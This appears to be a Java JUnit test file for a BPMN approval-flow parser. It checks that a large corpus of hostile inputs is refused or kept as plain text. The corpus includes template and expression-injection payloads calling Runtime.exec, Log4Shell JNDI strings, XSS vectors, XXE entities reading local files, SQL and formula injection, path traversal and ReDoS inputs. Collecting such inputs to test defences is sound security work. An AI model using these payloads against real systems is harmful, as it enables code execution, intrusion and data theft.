package org.hongdun.platform.approval;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.hongdun.kernel.RuleViolation;
import org.hongdun.platform.approval.condition.Conditions;
import org.hongdun.platform.approval.domain.FlowEdge;
import org.hongdun.platform.approval.domain.FlowField;
import org.hongdun.platform.approval.domain.FlowModel;
import org.hongdun.platform.approval.domain.FlowNode;
import org.hongdun.platform.approval.drawing.FlowReader;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What an attacker would draw or write: nothing of it runs, each is refused by name or kept as the plain words it is. */
@Timeout(value = 20, unit = TimeUnit.SECONDS)
class PayloadCorpusTest {

    /** Words that a template, an expression language or a browser would act on; refused wherever a name stands. */
    static final List<String> ACTIVE_WORDS = List.of(
            "${1+1}",
            "#{1+1}",
            "${Runtime.getRuntime().exec('id')}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "#{facesContext.externalContext.redirect('//evil')}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{(#a=@java.lang.Runtime@getRuntime())}",
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "*{T(java.lang.System).exit(1)}",
            "@{java:comp}",
            "~{fragment}",
            "{{7*7}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{% for x in y %}",
            "<%= 7*7 %>",
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<body onload=alert(1)>",
            "<math><mtext></mtext></math>",
            "<style>@import'//evil'</style>",
            "<meta http-equiv=refresh content=0>",
            "</textarea><script>1</script>",
            "'\"><script>1</script>",
            "-->",
            "<!--",
            "]]>",
            "<![CDATA[x]]>",
            "<?php system('id'); ?>",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "&#x3c;script",
            "\\u003cscript\\u003e",
            "`id`",
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:ldap://evil/a}",
            "$${env:PATH}",
            "\u202Egnp.exe",
            "a\u200Bb",
            "a\u0000b",
            "a\nb",
            "a\u2028b",
            "\uFEFFa",
            "\uD800",
            "x".repeat(61));

    /** Words that mean something elsewhere and nothing here; kept as they are. */
    static final List<String> PLAIN_WORDS = List.of(
            "javascript:alert(1)",
            "data:text/html,alert(1)",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "aced0005",
            "'; drop table flow_definition; --",
            "1 or 1=1",
            "A&B 公司",
            "=cmd|' /C calc'!A0",
            "../../etc/passwd",
            "$HOME",
            "__proto__",
            "constructor",
            "null",
            "O'Brien",
            "审查(一)");

    /** Elements that have no place in a drawing. */
    static final List<String> FOREIGN = List.of(
            "<b:scriptTask id='x' name='n' scriptFormat='groovy'><b:script>'id'.execute()</b:script></b:scriptTask>",
            "<b:scriptTask id='x' scriptFormat='javascript'><b:script>java.lang.Runtime</b:script></b:scriptTask>",
            "<b:serviceTask id='x' name='n'/>",
            "<b:sendTask id='x'/>",
            "<b:receiveTask id='x'/>",
            "<b:businessRuleTask id='x'/>",
            "<b:manualTask id='x'/>",
            "<b:callActivity id='x' calledElement='other'/>",
            "<b:adHocSubProcess id='x'/>",
            "<b:transaction id='x'/>",
            "<b:eventBasedGateway id='x'/>",
            "<b:inclusiveGateway id='x'/>",
            "<b:complexGateway id='x'/>",
            "<b:intermediateCatchEvent id='x'/>",
            "<b:intermediateThrowEvent id='x'/>",
            "<b:dataObject id='x'/>",
            "<b:dataStoreReference id='x'/>",
            "<b:textAnnotation id='x'><b:text>t</b:text></b:textAnnotation>",
            "<b:association id='x'/>",
            "<b:laneSet id='x'/>",
            "<b:documentation>&lt;script></b:documentation>",
            "<b:extensionElements/>",
            "<b:userTask id='x'><b:extensionElements><f:taskListener xmlns:f='http://flowable.org/bpmn' class='a.B'/></b:extensionElements></b:userTask>",
            "<b:userTask id='x'><b:potentialOwner/></b:userTask>",
            "<b:userTask id='x'><b:multiInstanceLoopCharacteristics/></b:userTask>",
            "<b:userTask id='x'><b:ioSpecification/></b:userTask>",
            "<b:sequenceFlow id='x' sourceRef='s' targetRef='e'><b:conditionExpression>${1==1}</b:conditionExpression></b:sequenceFlow>",
            "<b:startEvent id='x'><b:messageEventDefinition/></b:startEvent>",
            "<b:endEvent id='x'><b:terminateEventDefinition/></b:endEvent>",
            "<b:endEvent id='x'><b:errorEventDefinition errorRef='r'/></b:endEvent>",
            "<b:boundaryEvent id='x' attachedToRef='a'><b:timerEventDefinition><b:timeDuration>${now()}</b:timeDuration></b:timerEventDefinition></b:boundaryEvent>",
            "<b:boundaryEvent id='x' attachedToRef='a'><b:errorEventDefinition/></b:boundaryEvent>",
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
            "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
            "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform'/>",
            "<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'/>",
            "<object class='java.lang.ProcessBuilder'/>",
            "<java.util.PriorityQueue/>",
            "<void method='exec'/>");

    /** Attributes that have no place on a task. */
    static final List<String> FOREIGN_ATTRIBUTES = List.of(
            "xmlns:f='http://flowable.org/bpmn' f:class='a.B'",
            "xmlns:f='http://flowable.org/bpmn' f:assignee='${bean.run()}'",
            "xmlns:f='http://activiti.org/bpmn' f:expression='${1}'",
            "xmlns:f='http://camunda.org/schema/1.0/bpmn' f:delegateExpression='#{x}'",
            "xmlns:f='http://flowable.org/bpmn' f:formKey='x'",
            "onclick='alert(1)'",
            "style='x:expression(1)'",
            "implementation='##WebService'",
            "hd:script='1'",
            "hd:class='a.B'",
            "xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:1'",
            "xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:type='b:tFormalExpression'",
            "xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='http://evil file:///etc/passwd'",
            "xml:base='file:///'");

    /** Conditions that reach for more than the fields. */
    static final List<String> FOREIGN_CONDITIONS = List.of(
            "${amount > 1}",
            "#{amount > 1}",
            "amount.getClass().getName() == ''",
            "reason.class == ''",
            "''.getClass().forName('java.lang.Runtime') == null",
            "java.lang.System.exit(1)",
            "T(java.lang.Runtime).getRuntime() == null",
            "new java.lang.ProcessBuilder('id').start() == null",
            "@java.lang.Runtime@getRuntime() == null",
            "[1,2,3].all(a, [1,2,3].all(b, [1,2,3].all(c, true)))",
            "[1,2,3].map(x, [x, x]).size() > 1",
            "[0].exists(x, x == 0)",
            "reason.matches('(x+x+)+y')",
            "timestamp('2026-01-01T00:00:00Z').getFullYear() > 1",
            "duration('1h') > duration('1s')",
            "dyn(amount) == 'x'",
            "type(amount) == double",
            "google.protobuf.Struct{} == null",
            "google.protobuf.Any{type_url: 'type.googleapis.com/x'} == null",
            "has(reason.x)",
            "cel.bind(x, 1, x == 1)",
            "optional.of(1).hasValue()",
            "reason.format([1]) == ''",
            "reason.replace('a', 'b') == ''",
            "base64.encode(b'x') == ''",
            "amount",
            "reason",
            "1 == 1; true",
            "true // comment\n&& unknown",
            "(".repeat(3_000) + "true" + ")".repeat(3_000),
            "amount > " + "9".repeat(2_500),
            "reason == '" + "x".repeat(3_000) + "'",
            "!".repeat(1_999) + "true",
            "true" + " && true".repeat(500),
            "approvalFlow.takes(execution, 'x')",
            "execution.setVariable('a', 1) == null",
            "outcome.bytes() == b''",
            "__proto__ == null");

    static Stream<String> activeWords() {
        return ACTIVE_WORDS.stream();
    }

    static Stream<String> plainWords() {
        return PLAIN_WORDS.stream();
    }

    static Stream<String> foreign() {
        return FOREIGN.stream();
    }

    static Stream<String> foreignAttributes() {
        return FOREIGN_ATTRIBUTES.stream();
    }

    static Stream<String> foreignConditions() {
        return FOREIGN_CONDITIONS.stream();
    }

    private static String escaped(String text) {
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> {
            if (c == '<' || c == '>' || c == '&' || c == '\'' || c == '"' || c == '\n') {
                out.append("&#").append(c).append(';');
            } else {
                out.append((char) c);
            }
        });
        return out.toString();
    }

    private static Drawing line(String attributes) {
        return Drawing.flow().start("s").task("a", attributes).end("e").way("s", "a", "e");
    }

    private static void refused(String xml) {
        assertThatExceptionOfType(RuleViolation.class)
                .isThrownBy(() -> FlowReader.read(xml))
                .satisfies(refusal -> assertThat(((FlowError) refusal.reason()).ordinal())
                        .isLessThan(FlowError.NOT_ONE_START.ordinal()));
    }

    @Test
    void the_corpus_holds_more_than_a_hundred() {
        assertThat(ACTIVE_WORDS.size()
                        + PLAIN_WORDS.size()
                        + FOREIGN.size()
                        + FOREIGN_ATTRIBUTES.size()
                        + FOREIGN_CONDITIONS.size())
                .isGreaterThan(140);
    }

    @ParameterizedTest
    @MethodSource("activeWords")
    void active_words_are_refused_wherever_people_write(String words) {
        String text = escaped(words);
        refused(Drawing.flow().node("userTask", "a", "name='" + text + "'").xml());
        refused(line("").xml().replace("name=\"试验流程\"", "name='" + text + "'"));
        refused(Drawing.flow()
                .node("userTask", "a", "hd:phrases='同意|" + text + "'")
                .xml());
        refused(line("hd:whoUnit='" + text + "' hd:who='UNIT'").xml());
    }

    @ParameterizedTest
    @MethodSource("activeWords")
    void active_words_are_no_ids_and_no_codes(String words) {
        String text = escaped(words);
        refused(Drawing.flow().raw("<b:userTask id='" + text + "'/>").xml());
        refused(line("").xml().replace("id=\"test-flow\"", "id='" + text + "'"));
        refused(line("").xml().replace("targetRef='a'", "targetRef='" + text + "'"));
        refused(line("hd:termParameter='" + text + "'").xml());
        refused(line("hd:mode='" + text + "'").xml());
    }

    @ParameterizedTest
    @MethodSource("plainWords")
    void plain_words_stay_what_they_are(String words) {
        FlowNode node = Drawing.flow()
                .node("userTask", "a", "name='" + escaped(words) + "'")
                .model()
                .nodes()
                .get("a");

        assertThat(node.name()).isEqualTo(words);
    }

    @ParameterizedTest
    @MethodSource("foreign")
    void a_foreign_element_is_refused(String element) {
        refused(line("").raw(element).xml());
    }

    @ParameterizedTest
    @MethodSource("foreignAttributes")
    void a_foreign_attribute_is_refused(String attribute) {
        refused(line(attribute).xml());
    }

    /** Loads the language before times are taken. */
    @BeforeAll
    static void begin() {
        FlowEdge edge = new FlowEdge("way", "x", "y", "", "true", false);
        Conditions.fault(new FlowModel("budget", "预算", List.of(), Map.of(), List.of(edge)), edge);
    }

    @ParameterizedTest
    @MethodSource("foreignConditions")
    void a_condition_that_reaches_for_more_than_the_fields_is_refused(String condition) {
        FlowEdge edge = new FlowEdge("way", "x", "y", "", condition, false);
        FlowModel model = new FlowModel(
                "budget",
                "预算",
                List.of(
                        new FlowField("amount", FlowField.Type.NUMBER, "金额"),
                        new FlowField("reason", FlowField.Type.TEXT, "事由")),
                Map.of(),
                List.of(edge));
        long before = System.nanoTime();

        assertThat(Conditions.fault(model, edge)).isPresent();
        assertThat(System.nanoTime() - before).isLessThan(TimeUnit.SECONDS.toNanos(5));
    }

    @Test
    void no_document_type_no_entity_and_no_file_is_read(@TempDir Path folder) throws Exception {
        Path secret = Files.writeString(folder.resolve("secret"), "geheim");
        String body = line("").xml().replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "");
        String named = body.replace("name='办a'", "name='&e;'");
        for (String type : List.of(
                "<!DOCTYPE x [<!ENTITY e SYSTEM '" + secret.toUri() + "'>]>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://127.0.0.1:9/'>]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + secret.toUri() + "'> %p;]>",
                "<!DOCTYPE x SYSTEM '" + secret.toUri() + "'>",
                "<!DOCTYPE x PUBLIC '-//A//B' 'http://127.0.0.1:9/'>",
                "<!DOCTYPE x [<!ENTITY e 'a'>]>",
                "<!DOCTYPE x [<!ATTLIST x y CDATA 'z'>]>",
                "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'><!ENTITY e '&b;&b;&b;&b;&b;&b;'>]>")) {
            refused(type + named);
            refused(type + body);
        }
        refused(named);
    }

    @Test
    void comments_instructions_sections_and_stray_text_are_refused() {
        for (String markup : List.of(
                "<!-- <script> -->",
                "<?xml-stylesheet href='x'?>",
                "<?php 1 ?>",
                "<![CDATA[<script>]]>",
                "text",
                "${x}")) {
            refused(line("").raw(markup).xml());
        }
        refused("<!-- x -->" + line("").xml().replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", ""));
    }

    @Test
    void what_is_too_large_too_deep_or_too_many_is_refused() {
        refused(line("").raw(" ".repeat(10_000_000)).xml());
        refused(line("").raw("<b:subProcess id='p'>".repeat(1) + nested(50) + "</b:subProcess>")
                .xml());
        Drawing crowd = line("");
        IntStream.range(0, 300).forEach(i -> crowd.task("t" + i));
        refused(crowd.xml());
        refused(line("").xml().replace("xmlns:hd=", attributes(20_000) + " xmlns:hd="));
        refused("a".repeat(1_000));
        refused("\u0000");
        refused("{\"bpmn\": true}");
    }

    private static String nested(int depth) {
        StringBuilder xml = new StringBuilder();
        IntStream.range(0, depth)
                .forEach(i -> xml.append("<b:subProcess id='n").append(i).append("'>"));
        xml.append("</b:subProcess>".repeat(depth));
        return xml.toString();
    }

    private static String attributes(int number) {
        StringBuilder xml = new StringBuilder();
        IntStream.range(0, number).forEach(i -> xml.append(" a").append(i).append("='1'"));
        return xml.toString();
    }
}
